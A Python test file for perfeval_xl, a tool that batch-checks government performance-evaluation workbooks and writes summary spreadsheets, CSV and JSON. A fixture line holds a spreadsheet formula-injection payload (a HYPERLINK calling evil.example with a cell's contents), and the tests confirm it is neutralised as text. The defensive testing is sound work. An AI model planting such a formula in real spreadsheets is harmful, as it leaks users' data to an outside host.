"""The summary workbook a head of section prints, and the streamed outputs of a province-sized batch."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import tracemalloc
import zipfile
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from perfeval_xl import cli
from perfeval_xl.batch import collect, run
from perfeval_xl.findings import Finding, Metrics, Report, Severity
from perfeval_xl.inert import inert_json
from perfeval_xl.output import JsonlWriter, JsonWriter, render_json
from perfeval_xl.pipeline import CheckOptions
from perfeval_xl.writers import summary as S
from perfeval_xl.writers.summary import SummaryWriter, chart_height, chart_units, write_summary

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HEADER_ROW = 3  # 1: title and date, 2: totals, 3: the column heads (no note rows)


def header_and_rows(ws):
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    at = next(i for i, r in enumerate(rows) if r[0] in ("单位", "文件", "代码"))
    head = rows[at]
    return head, [dict(zip(head, r)) for r in rows[at + 1:]], rows[:at]


@pytest.fixture(scope="module")
def folder(tmp_path_factory, seed_example, seed_original):
    from tests.conftest import set_cells

    d = tmp_path_factory.mktemp("summary") / "收件箱"
    (d / "市直").mkdir(parents=True)
    shutil.copyfile(seed_example, d / "市直" / "益阳市人民政府办公室_2024.xlsx")
    shutil.copyfile(seed_original, d / "市直" / "原表_政府办.xlsx")
    set_cells(seed_example, {"unit_name": "'" + EVIL}, dest=str(d / "恶意单位名.xlsx"))
    (d / "其实是CSV.xlsx").write_text("项目,金额\n公务接待费,1.91\n", encoding="utf-8")
    return d


def test_summary_of_a_folder_is_one_row_per_unit_with_title_totals_and_guarded_text(folder, tmp_path):
    files = collect([str(folder)])
    reports = run(files, CheckOptions(), jobs=1)
    out = write_summary(reports, str(tmp_path / "汇总" / "2024年自评复核汇总.xlsx"))
    wb = load_workbook(out)
    assert wb.sheetnames == ["汇总", "全部问题", "规则统计", "图表"]
    ws = wb["汇总"]
    head, rows, top = header_and_rows(ws)
    assert top[0][0].startswith("perfeval 批量校验汇总 · 汇总") and re.search(r"生成于 \d{4}-\d\d-\d\d \d\d:\d\d",
                                                                            top[0][0])
    infos = sum(r.infos for r in reports)
    assert f"提示 {infos}" in top[1][0] and "1 个文件无法校验" in top[1][0]
    assert head[:4] == ["单位", "项目名称", "表样", "年度"] and "提示数" in head and head[-1] == "说明"
    assert "标注副本" not in head  # no --annotate, no link column
    by_file = {r["文件"]: r for r in rows}
    assert len(rows) == len(files)
    seed = by_file[files[2]]
    assert seed["单位"] == "益阳市人民政府办公室" and seed["年度"] == 2024 and abs(seed["执行率"] - 0.9596) < 1e-4
    assert seed["提示数"] == reports[2].infos > 0
    assert by_file[files[0]]["说明"].startswith("无法校验")
    evil = [c for c in ws["A"] if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s" and evil[0].quotePrefix
    with zipfile.ZipFile(out) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
        assert b"perfeval" in z.read("docProps/core.xml")  # the document title says what it is
    _, findings, _ = header_and_rows(wb["全部问题"])
    assert len(findings) == sum(len(r.findings) for r in reports)
    _, freq, _ = header_and_rows(wb["规则统计"])
    assert sum(r["出现次数"] for r in freq) == len(findings)
    assert [r["出现次数"] for r in freq] == sorted((r["出现次数"] for r in freq), reverse=True)


def test_every_sheet_prints_on_a4_with_its_title_rows_repeated(tmp_path):
    reports = [Report("a.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "很长的说明" * 30)], Metrics("甲"))]
    wb = load_workbook(write_summary(reports, str(tmp_path / "s.xlsx")))
    for ws in wb.worksheets:
        assert ws.page_setup.paperSize == 9, ws.title  # A4
        assert ws.print_title_rows, ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth in (None, 1)
    msg = wb["全部问题"].cell(4, 8)
    assert msg.alignment.wrap_text and wb["全部问题"].row_dimensions[4].height > 15  # the row shows the whole text
    assert wb["全部问题"].cell(4, 1).alignment.wrap_text  # a long path wraps instead of running on


def test_parts_provisional_scores_and_control_characters(tmp_path):
    parts = [Report("多项目.xlsx", [Finding("PE205", Severity.ERROR, "项目1", "B3", "m")],
                    Metrics("丙局", 2024, total_score=D("88.5"), grade="良", score_provisional=True,
                            score_note="一级指标分值与三级指标之和不符", project="道路维修"), form="proj"),
             Report("多项目.xlsx", [], Metrics("丙局", 2024, total_score=D(95), grade="优", project="路灯"), form="proj")]
    reports = [
        Report("a.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m"), Finding("PE202", Severity.WARNING, "s",
                                                                                     "B1", "m")],
               Metrics(department="甲\x01局", year=2024)),
        Report("b.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m")], Metrics(department="乙", year=2024)),
        Report("c.xlsx", error="文件已加密"),
        Report("多项目.xlsx", [], Metrics("丙局"), form="proj", parts=parts),
    ]
    wb = load_workbook(write_summary(reports, str(tmp_path / "s.xlsx")))
    _, freq, _ = header_and_rows(wb["规则统计"])
    assert [(r["代码"], r["出现次数"], r["涉及文件数"]) for r in freq] == [("PE101", 2, 2), ("PE202", 1, 1),
                                                                    ("PE205", 1, 1)]
    _, rows, top = header_and_rows(wb["汇总"])
    assert rows[0]["单位"] == "甲\\x01局"  # the control character shown, not written raw into the XML
    assert rows[2]["单位"] == "c" and rows[2]["说明"] == "无法校验：文件已加密"
    projects = [r for r in rows if r["文件"] == "多项目.xlsx"]
    assert [r["项目名称"] for r in projects] == ["道路维修", "路灯"] and projects[0]["表样"] == "proj"
    assert projects[0]["等级"] == "良（暂定）" and "暂定：一级指标分值与三级指标之和不符" in projects[0]["说明"]
    assert projects[1]["等级"] == "优"
    ws = wb["汇总"]
    score_col = [c.value for c in ws[HEADER_ROW]].index("复核总分") + 1
    cell = ws.cell(HEADER_ROW + 4, score_col)
    assert cell.value == 88.5 and cell.fill.fgColor.rgb.endswith("FFEB9C")  # a provisional score stands out
    assert "1 行复核总分为暂定" in top[1][0]
    _, findings, _ = header_and_rows(wb["全部问题"])
    assert [f["项目名称"] for f in findings if f["代码"] == "PE205"] == ["道路维修"]


def _many(n, per=3):
    sev = (Severity.ERROR, Severity.WARNING, Severity.INFO)
    return [Report(f"{i:05d}.xlsx", [Finding(f"PE{300 + k}", sev[k % 3], "基础数据表", f"B{k}", f"第{i}个文件的问题{k}")
                                   for k in range(per)],
                   Metrics(department=f"第{i}号单位", year=2024, total_score=D(40 + i % 60),
                           execution_rate=D("0.9"))) for i in range(n)]


def test_findings_past_the_sheet_limit_go_to_a_linked_csv_and_the_first_sheet_says_so(tmp_path):
    reports = _many(40) + [Report("坏.xlsx", error="文件已加密")]
    reports[0].findings.append(Finding("PE101", Severity.ERROR, "s", "A1", "=1+2 不是公式"))
    reports[1].findings.append(Finding("PE102", Severity.ERROR, "s", "A2", "@SUM(A1)", "+A1", "-13.50"))
    dest = tmp_path / "out" / "汇总.xlsx"
    w = SummaryWriter(dest, max_sheet_rows=90)
    for r in reports:
        w.add(r)
    res = w.close()
    assert res.findings == 122 and res.csv == str(tmp_path / "out" / "汇总_全部问题.csv")
    with open(res.csv, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 122 and rows[0]["文件"] == "00000.xlsx"
    assert "'=1+2 不是公式" in [r["说明"] for r in rows]  # Excel would take it for a formula otherwise
    odd = next(r for r in rows if r["代码"] == "PE102")
    assert (odd["说明"], odd["应为"], odd["实为"]) == ("'@SUM(A1)", "'+A1", "-13.50")  # a plain number stays one
    wb = load_workbook(dest)
    ws = wb["汇总"]
    note = ws["A3"]
    assert "问题共 122 条" in note.value and "汇总_全部问题.csv" in note.value and note.hyperlink is not None
    assert note.hyperlink.target == "汇总_全部问题.csv"  # relative: the folder can be moved as a whole
    _, findings, top = header_and_rows(wb["全部问题"])
    assert len(findings) == 90  # the most severe first: every error and warning, then the first infos
    assert [f["严重程度"] for f in findings].count("提示") == 8
    assert "完整清单（122 条）" in top[1][0] and "全部错误（42 条）、全部警告（40 条）、提示 40 条中的前 8 条" in top[1][0]
    assert not [n for n in os.listdir(dest.parent) if n.startswith(".perfeval")]  # no spool left behind


def test_the_csv_is_written_as_reports_arrive_and_left_nowhere_when_the_run_stops(tmp_path):
    import gc

    dest = tmp_path / "out" / "汇总.xlsx"
    w = SummaryWriter(dest, max_sheet_rows=10)
    reports = _many(6)  # 18 findings: past the limit at the fourth report
    for r in reports[:4]:
        w.add(r)
    begun = [n for n in os.listdir(dest.parent) if n.endswith(".csv")]
    assert len(begun) == 1  # begun while the run goes on, not at close
    w.discard()  # the run stopped (Ctrl-C, a full disk): nothing of the summary is left
    assert os.listdir(dest.parent) == []
    w = SummaryWriter(dest, max_sheet_rows=10)
    for r in reports:
        w.add(r)
    del w  # dropped without close() by a caller that failed: its half-written CSV goes with it
    gc.collect()
    assert [n for n in os.listdir(dest.parent) if n.endswith(".csv")] == []
    w = SummaryWriter(dest, max_sheet_rows=10)
    for r in reports:
        w.add(r)
    res = w.close()
    with open(res.csv, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["说明"] for r in rows] == [f.message for r in reports for f in r.findings]  # every one, in order
    assert sorted(os.listdir(dest.parent)) == ["汇总.xlsx", "汇总_全部问题.csv"]


def test_a_sheet_past_excels_row_limit_continues_on_numbered_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(S, "EXCEL_MAX_ROWS", 50)  # Excel's 1 048 576 rows, scaled down to keep the test quick
    out = write_summary(_many(40), str(tmp_path / "s.xlsx"))
    wb = load_workbook(out)
    assert wb.sheetnames == ["汇总", "全部问题", "全部问题2", "全部问题3", "规则统计", "图表"]
    counted = sum(len(header_and_rows(wb[n])[1]) for n in ("全部问题", "全部问题2", "全部问题3"))
    assert counted == 120
    assert "分在“全部问题”“全部问题2”等多张表中" in wb["汇总"]["A3"].value


def test_charts_per_unit_for_few_units_and_distributions_for_many(tmp_path):
    few = [Report("a/甲.xlsx", [], Metrics("甲局", total_score=D(90), execution_rate=D("0.9"))),
           Report("b/甲.xlsx", [], Metrics("甲局", total_score=D(80), execution_rate=D("0.9"))),
           Report("乙.xlsx", [], Metrics("乙局", total_score=D(70), execution_rate=D("0.9"))),
           Report("坏.xlsx", error="文件已加密")]
    assert [u[0] for u in chart_units(few)] == ["甲局（a/甲.xlsx）", "甲局（b/甲.xlsx）", "乙局"]
    assert [u[1] for u in chart_units(few)] == [90, 80, 70]  # the unreadable file is not a bar
    assert chart_height(60) > 4 * chart_height(3)

    def charts(path):
        with zipfile.ZipFile(path) as z:
            return [z.read(n).decode() for n in sorted(z.namelist()) if n.startswith("xl/charts/chart")]

    small = charts(write_summary(few, str(tmp_path / "few.xlsx")))
    unit_charts = [c for c in small if "各单位复核总分" in c]
    assert len(unit_charts) == 1 and '<c:barDir val="bar"/>' in unit_charts[0]
    assert '<c:max val="100"/>' in unit_charts[0] and '<c:majorUnit val="20"/>' in unit_charts[0]  # 0-100 by 20

    many = _many(500, per=1)
    out = write_summary(many, str(tmp_path / "many.xlsx"))
    big = charts(out)
    titles = [re.search(r"<a:t>([^<]+)</a:t>", c).group(1) for c in big]
    assert any(t.startswith("复核总分分布（500 个单位）") for t in titles)
    assert any(t.startswith("复核总分最低的 30 个单位") for t in titles)
    assert not any("各单位" in t for t in titles)  # no chart with one bar per unit for 500 units
    ws = load_workbook(out)["图表"]
    data = {c.value: c.column for c in ws[3] if c.value}
    lowest = [ws.cell(r, data["图表数据：复核总分最低的单位"]).value for r in range(4, 34)]
    assert lowest[0] == "第0号单位" and len(set(lowest)) == 30  # 40 points: the lowest, in order
    bands = [ws.cell(r, data["复核总分分布"] if "复核总分分布" in data else data["单位数"]).value
             for r in range(4, 14)]
    assert sum(b for b in bands if isinstance(b, int)) == 500


def test_summary_memory_does_not_grow_with_the_reports(tmp_path):
    """A generous bound, not a timing: 6000 reports cost no more traced memory than 1500 (+ 2 MB)."""
    peaks = []
    for n in (1500, 6000):
        reports = _many(n, per=4)  # made before tracing: the caller's, not the writer's
        tracemalloc.start()
        w = SummaryWriter(tmp_path / f"s{n}.xlsx", max_sheet_rows=0)
        for r in reports:
            w.add(r)
        w.close()
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 2_000_000, peaks


def test_json_is_streamed_as_the_same_document_and_jsonl_is_one_object_a_line(seed_example):
    from perfeval_xl.pipeline import check_file

    reports = [check_file(seed_example), Report("坏.xlsx", error="文件已加密\u2028第二行")]
    buf = io.StringIO()
    w = JsonWriter(buf)
    for r in reports:
        w.write(r)
    w.close(["old.xlsx"], {"old.xlsx": "带有校验标记"})
    expected = {"files": [r.to_dict() for r in reports], "skipped": ["old.xlsx"],
                "skipped_reasons": {"old.xlsx": "带有校验标记"}}
    assert buf.getvalue() == inert_json(json.dumps(expected, ensure_ascii=False, indent=2)) + "\n"
    assert render_json([]) == json.dumps({"files": []}, ensure_ascii=False, indent=2) + "\n"
    buf = io.StringIO()
    w = JsonlWriter(buf)
    for r in reports:
        w.write(r)
    w.close(["old.xlsx"], {"old.xlsx": "带有校验标记"})
    lines = buf.getvalue().splitlines()  # splitlines also breaks at U+2028: it must be escaped
    assert [json.loads(x) for x in lines] == [r.to_dict() for r in reports] + [{"path": "old.xlsx",
                                                                                 "skipped": "带有校验标记"}]


def test_cli_jsonl_and_summary_links_each_row_to_its_annotated_copy(capsys, folder, tmp_path):
    summary, outdir = tmp_path / "汇总.xlsx", tmp_path / "已校验"
    code = cli.main(["check", "--format", "jsonl", str(folder), "--summary", str(summary), "--annotate",
                     str(outdir)])
    out, err = capsys.readouterr()
    assert code == 2  # the CSV-as-xlsx cannot be read
    objs = [json.loads(x) for x in out.splitlines()]
    assert len(objs) == 4 and all("findings" in o for o in objs)
    assert f"汇总表已写入：{summary}" in err
    ws = load_workbook(summary)["汇总"]
    head = [c.value for c in ws[HEADER_ROW]]
    col = head.index("标注副本") + 1
    links = {}
    for r in range(HEADER_ROW + 1, ws.max_row + 1):
        cell = ws.cell(r, col)
        if cell.hyperlink is not None:
            links[ws.cell(r, head.index("文件") + 1).value] = cell.hyperlink.target
    assert len(links) == 3  # every readable file; none for the unreadable one
    for target in links.values():  # relative, in Excel's Windows form (XlsxWriter writes "\\")
        assert not os.path.isabs(target) and os.path.isfile(tmp_path / target.replace("\\", os.sep))


def test_summary_prints_readably_in_libreoffice(tmp_path, soffice, pdftotext):
    """Rendered by LibreOffice: A4 pages, each of 40 units named on the chart page (none skipped, none cut),
    the unreadable file not on it, the title row on every page."""
    reports = [Report(f"{i}.xlsx", [], Metrics(department=f"测试单位{i:02d}号", year=2024, total_score=D(90),
                                                 execution_rate=D("0.95"))) for i in range(40)]
    reports.insert(7, Report("加密的文件.xlsx", error="文件已加密"))
    out = write_summary(reports, str(tmp_path / "s.xlsx"))
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/p", "--headless", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), out], check=True, capture_output=True, timeout=180)
    pdf = str(tmp_path / "s.pdf")
    info = subprocess.run(["pdfinfo", pdf], capture_output=True, text=True).stdout
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
    assert "(A4)" in info
    texts = [subprocess.run(["pdftotext", "-f", str(p), "-l", str(p), pdf, "-"], capture_output=True,
                            text=True).stdout.replace(" ", "") for p in range(1, pages + 1)]
    assert all("perfeval批量校验汇总" in t for t in texts)  # the title row repeats on every page
    chart_pages = [t for t in texts if "各单位复核总分" in t]
    assert chart_pages
    text = "".join(texts[texts.index(chart_pages[0]):])
    missing = [f"测试单位{i:02d}号" for i in range(40) if f"测试单位{i:02d}号" not in text]
    assert not missing
    assert "加密的文件" not in text
